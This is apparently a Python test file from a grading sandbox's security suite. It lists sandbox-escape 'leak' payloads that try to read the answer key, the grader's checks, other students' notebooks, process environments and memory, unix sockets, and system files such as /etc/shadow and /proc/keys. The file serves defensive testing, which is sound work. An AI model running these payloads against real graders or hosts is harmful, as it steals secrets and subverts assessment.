# ruff: noqa: E501 - what is handed in is text, and its longest lines stay as they would be written
"""Leaking: reading what is the grader's or another student's."""

from tests.attacks.leak_parts import HUNT, leak_attack

READ = [
    leak_attack("key-file", "Reads the course key from where it lies.", """\
try:
    print(open('@KEY@').read())
except OSError:
    print('none')"""),
    leak_attack("checks-file", "Reads the checks with their references, through every folder above.",
          HUNT + """\
import glob, os
read('@CHECKS@')
for path in glob.glob('@ROOT@/**/*', recursive=True) + glob.glob('../**/*', recursive=True)[:2000]:
    if os.path.isfile(path) and os.path.getsize(path) < 1 << 22: read(path)"""),
    leak_attack("other-submission", "Reads another student's notebook.",
          HUNT + """\
import glob
read('@SIBLING@')
for path in glob.glob('@COURSE@/**/*.ipynb', recursive=True): read(path)"""),
    leak_attack("host-file", "Reads a file of the host's, directly and through the roots of other processes.",
          HUNT + """\
import os
for pid in ['self', 'thread-self', *filter(str.isdigit, os.listdir('/proc'))]:
    for way in ('root', 'cwd'):
        read(f'/proc/{pid}/{way}/@SECRET_FILE@')
        read(f'/proc/{pid}/{way}/../../../../../../../@SECRET_FILE@')
read('@SECRET_FILE@')"""),
    leak_attack("environment", "Reads its own environment and that of every process it can see.",
          HUNT + """\
import os
hunt(str(dict(os.environ)))
for pid in filter(str.isdigit, os.listdir('/proc')): read(f'/proc/{pid}/environ')"""),
    leak_attack("own-memory", "Searches all of its own memory for words that the warm parent may have held.",
          HUNT + """\
for line in open('/proc/self/maps'):
    span, rights = line.split()[:2]
    if 'r' not in rights or '[v' in line: continue
    low, high = (int(part, 16) for part in span.split('-'))
    if high - low > 1 << 28: continue
    try:
        with open('/proc/self/mem', 'rb', 0) as memory:
            memory.seek(low)
            hunt(memory.read(high - low))
    except (OSError, ValueError, OverflowError):
        pass"""),
    leak_attack("ancestors-memory", "Searches the memory of the processes that started it.",
          HUNT + """\
import os
pid = os.getppid()
while pid > 1:
    try:
        lines = open(f'/proc/{pid}/maps').readlines()
        above = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
    except OSError:
        break
    for line in lines:
        span, rights = line.split()[:2]
        if 'rw' not in rights: continue
        low, high = (int(part, 16) for part in span.split('-'))
        if high - low > 1 << 28: continue
        try:
            with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                memory.seek(low)
                hunt(memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            pass
    if b'grading_host' in open(f'/proc/{pid}/cmdline', 'rb').read(): break
    pid = above""", slow=True),
    leak_attack("open-files", "Reads whatever any visible process has open.",
          HUNT + """\
import os, stat
for pid in ['self', str(os.getppid())]:
    try:
        fds = os.listdir(f'/proc/{pid}/fd')
    except OSError:
        continue
    for fd in fds:
        path = f'/proc/{pid}/fd/{fd}'
        try:
            if stat.S_ISREG(os.stat(path).st_mode): read(path, 1 << 22)
            if stat.S_ISDIR(os.stat(path).st_mode): print(os.listdir(path)); read(f'{path}/../../../../../../@SECRET_FILE@')
        except OSError:
            pass"""),
    leak_attack("modules", "Searches every module and every living object for references.",
          HUNT + """\
import gc, sys
for module in list(sys.modules.values()):
    for name, value in list(vars(module).items()):
        if isinstance(value, (str, bytes)): hunt(value)
        if name == 'REFERENCE': print(getattr(value, 'keys', dict)(), '@CHECKS@'[:0])
for one in gc.get_objects():
    try:
        if type(one) is dict:
            for value in list(one.values()):
                if type(value) in (str, bytes): hunt(value)
        elif type(one) in (list, tuple):
            for value in one:
                if type(value) in (str, bytes): hunt(value)
    except Exception:
        pass""", slow=True),
    leak_attack("import-the-grader", "Imports the grader's own modules and loads the checks and the key with them.",
          HUNT + """\
from pathlib import Path
try:
    import seqlib.grading.kit as kit, inspect
    found = kit.load_kit('target', Path('@ROOT@'))
    hunt(str(vars(inspect.getmodule(found.suite.checks['scaling'].body))))
    hunt(open('@CHECKS@').read())
    print(kit.course_key(Path('@COURSE@')).decode())
except Exception as error:
    print(type(error).__name__)""",
          ours_only=True),
    leak_attack("leftovers", "Looks for what the submission before it left behind, in every place that can be written.",
          HUNT + """\
import glob, os, tempfile
for place in {'/tmp', '/var/tmp', '/dev/shm', '/run', '/dev/mqueue', os.path.expanduser('~'), tempfile.gettempdir()}:
    for path in glob.glob(f'{place}/*') + glob.glob(f'{place}/.*') + glob.glob(f'{place}/*/*'):
        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20: read(path)"""),
    leak_attack("freed-memory", "Asks for memory without clearing it and searches what others left in it.",
          HUNT + """\
import ctypes
for size in [1 << n for n in range(6, 24)]:
    for _ in range(4):
        hunt(bytes(torch.empty(size, dtype=torch.uint8).numpy()))
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
for _ in range(2000):
    place = libc.malloc(4000)
    hunt(ctypes.string_at(place, 4000))"""),
    leak_attack("sockets-of-others", "Connects to every unix socket in sight, and reads what they say.",
          HUNT + """\
import socket
try:
    lines = open('/proc/net/unix').read().splitlines()[1:]
except OSError:
    lines = []
for name in {line.split()[-1] for line in lines if len(line.split()) > 7} | {'@' + '@ABSTRACT@'}:
    if 'seq-' not in name: continue
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(0.3)
            sock.connect('\\0' + name[1:] if name[0] == '@' else name)
            sock.send(b'@MARK@')
            hunt(sock.recv(1000))
    except OSError:
        pass"""),
    leak_attack("kernel-log", "Reads the kernel's log and other files about the whole machine.",
          HUNT + """\
for path in ('/dev/kmsg', '/proc/kcore', '/proc/keys', '/var/log/syslog', '/proc/1/environ', '/etc/shadow', '/root/.bash_history'):
    try:
        import os
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        if os.getuid() and path == '/etc/shadow': print('wo' 'n-@MARK@')
        hunt(os.read(fd, 1 << 16))
    except OSError:
        pass"""),
]  # fmt: skip
